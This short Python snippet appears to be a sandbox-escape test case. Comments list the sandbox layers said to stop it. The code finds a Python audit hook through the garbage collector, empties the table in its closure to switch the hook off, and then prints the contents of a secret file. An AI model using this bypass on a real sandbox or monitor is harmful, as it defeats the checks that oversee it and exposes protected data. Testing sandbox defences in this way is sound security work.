# Empties the table of the audit hook, found by the garbage collector.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user
# with: graph
gc = importer.load_module('gc')
for value in gc.get_objects():
    if getattr(value, '__name__', '') == 'hook' and hasattr(value, '__closure__'):
        for cell in value.__closure__:
            if type(cell.cell_contents) is dict:
                cell.cell_contents.clear()
print(open(SECRET).read())
